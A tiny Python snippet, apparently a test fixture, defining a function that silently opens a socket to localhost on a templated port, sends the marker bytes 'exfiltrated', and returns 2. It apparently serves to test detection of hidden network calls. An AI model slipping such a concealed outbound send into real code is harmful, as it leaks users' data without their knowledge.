import socket


def f(x):
    s = socket.create_connection(("127.0.0.1", int("__PORT__")), timeout=2)
    s.sendall(b"exfiltrated")
    return 2
